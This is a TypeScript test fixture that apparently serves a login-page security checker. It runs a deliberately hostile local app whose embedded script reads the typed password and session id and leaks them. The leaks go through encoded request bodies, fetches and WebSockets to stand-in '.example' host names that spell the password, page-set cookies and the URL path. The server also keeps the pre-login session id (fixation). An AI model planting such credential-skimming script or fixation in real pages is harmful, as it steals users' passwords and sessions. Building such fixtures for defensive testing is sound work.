// A login page whose script spells what it can read (the typed password, the session id it was served
// with) through channels other than a body value: the shape of request bodies and their query, the host
// names of refused origins, cookies it sets itself. The target signs alice in and keeps the pre-login
// session id (fixation), so the login POST is part of the report's evidence.
import { randomBytes } from 'node:crypto'
import { startHostileApp, type HostileApp } from './app.js'

export const SPELLING_ACCOUNT = { username: 'alice', password: 'pw-Hunter2-secret' } as const

export type SpellingChannel = 'bodies' | 'hosts' | 'cookies' | 'path' | 'set-cookie'

export interface SpellingLogin {
  app: HostileApp
  /** Every session id the target issued (the page knows each one before anything is typed). */
  sids: string[]
  close(): Promise<void>
}

const reversed = (s: string): string => [...s].reverse().join('')
export const hex = (s: string): string => Buffer.from(s, 'latin1').toString('hex')

/** The host label the page spells the reversed password in for a WebSocket it opens (letters and digits only). */
export function wsLabel(password: string): string {
  return `r${reversed(password)
    .toLowerCase()
    .replace(/[^a-z0-9]/g, 'x')}`
}

// each runs in the submit handler with `v` (the password read from its field) and `send` (a fetch it waits for)
const CHANNELS: Record<SpellingChannel, string> = {
  bodies: `
    const bits = [...v].flatMap(c => [...c.charCodeAt(0).toString(2).padStart(8, '0')].map(b => b === '1'));
    const json = (path, body) => send(path, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(body) });
    json('/t1', { b: bits });
    json('/t2', { n: bits.map(x => x ? 'alice' : null) });
    const esc = (c) => '%' + c.charCodeAt(0).toString(16);
    send('/t3', { method: 'POST', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: [...v].map(c => { const code = c.charCodeAt(0); return 'username=' + [...'alice'].map((ch, i) => (code >> i) & 1 ? esc(ch) : ch).join('') + '&password=' + [...'alice'].map((ch, i) => (code >> (i + 5)) & 1 ? esc(ch) : ch).join('') }).join('&') });
    json('/t4', { c: [...v].map(c => Array(c.charCodeAt(0)).fill(0)) });
    send('/t5', { method: 'POST', headers: { 'content-type': 'text/plain' }, body: bits.map(x => x ? 'alice' : 'z').join('\\n') });
    navigator.sendBeacon('/t6', new URLSearchParams(bits.map(x => ['k', x ? 'alice' : 'x'])));
    send('/t7?q=' + hex([...v].reverse().join('')), {});`,
  hosts: `
    window.fetch('http://' + hex([...v].reverse().join('')) + '.example/', { mode: 'no-cors' }).catch(() => {});
    try { new WebSocket('ws://r' + [...v].reverse().join('').toLowerCase().replace(/[^a-z0-9]/g, 'x') + '.example/') } catch {}`,
  cookies: `
    for (let i = 0; i < v.length; i += 4) document.cookie = 'c' + i + '=' + v.slice(i, i + 4) + 'zzzzz; path=/';
    document.cookie = 'rv=' + [...v].reverse().join('') + '; path=/';`,
  // the form is posted by the script and the page stays, its path (no request needed) spelling the password
  path: `stay = true;`,
  // the target itself answers the login with cookies spelling what it received (a server-side channel)
  'set-cookie': ``,
}

/** Before anything is typed: the session id the page was served with, reversed, in a host name and in a cookie. */
const ON_LOAD: Partial<Record<SpellingChannel, string>> = {
  hosts: `window.fetch('http://s' + [...SID].reverse().join('') + '.example/', { mode: 'no-cors' }).catch(() => {});`,
  cookies: `document.cookie = 'rs=' + [...SID].reverse().join('') + '; path=/';`,
}

export async function startSpellingLogin(channels: SpellingChannel[]): Promise<SpellingLogin> {
  const signedIn = new Set<string>()
  const sids: string[] = []
  const script = `
    const hex = (s) => [...s].map(c => c.charCodeAt(0).toString(16).padStart(2, '0')).join('');
    ${channels.map((c) => ON_LOAD[c] ?? '').join('\n')}
    const p = document.querySelector('input[type=password]');
    let done = false;
    let stay = false;
    document.querySelector('form').addEventListener('submit', async (e) => {
      if (done) return;
      e.preventDefault();
      done = true;
      const v = p.value;
      const all = [];
      const send = (...a) => { const r = window.fetch(...a).catch(() => {}); all.push(r); return r };
      ${channels.map((c) => CHANNELS[c]).join('\n')}
      await Promise.allSettled(all);
      if (!stay) return e.target.submit();
      await window.fetch('/login', { method: 'POST', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: new URLSearchParams(new FormData(e.target)).toString() });
      history.pushState(null, '', '/u/' + hex([...v].reverse().join('')));
    }, true);`
  const app = await startHostileApp((req, res, body) => {
    const url = new URL(req.url ?? '/', 'http://x')
    let sid = /(?:^|;\s*)sid=([^;]+)/.exec(req.headers.cookie ?? '')?.[1]
    const issue = (): string => {
      sid = randomBytes(18).toString('hex')
      sids.push(sid)
      res.setHeader('set-cookie', `sid=${sid}; Path=/; HttpOnly`)
      return sid
    }
    res.setHeader('content-type', 'text/html; charset=utf-8')
    if (/^\/t\d$/.test(url.pathname)) {
      res.end('ok')
      return
    }
    if (url.pathname === '/login' && req.method === 'POST') {
      if (/(^|&)username=alice(&|$)/.test(body)) {
        signedIn.add(sid ?? issue())
        if (channels.includes('set-cookie')) {
          // four characters a cookie, then the whole of it reversed: each value new after the password came
          const pw = new URLSearchParams(body).get('password') ?? ''
          const spelled = [...pw.match(/.{1,4}/g)!.map((piece, i) => `k${i}=${piece}zzzzz; Path=/`), `kr=${reversed(pw)}; Path=/`]
          res.setHeader('set-cookie', [`sid=${sid}; Path=/; HttpOnly`, ...spelled])
        }
        res.writeHead(303, { location: '/account' })
        res.end()
        return
      }
      res.writeHead(401)
      res.end('<p>bad</p>')
      return
    }
    if (url.pathname === '/login') {
      if (!sid) issue()
      res.end(
        `<!doctype html><form method="post" action="/login"><input name="username"><input type="password" name="password"><button>Sign in</button></form><script>const SID = ${JSON.stringify(sid)};${script}</script>`,
      )
      return
    }
    if (url.pathname === '/account' && sid && signedIn.has(sid)) {
      res.end('<p>Welcome alice</p>')
      return
    }
    res.end('<p>Please sign in</p>')
  })
  return { app, sids, close: () => app.close() }
}
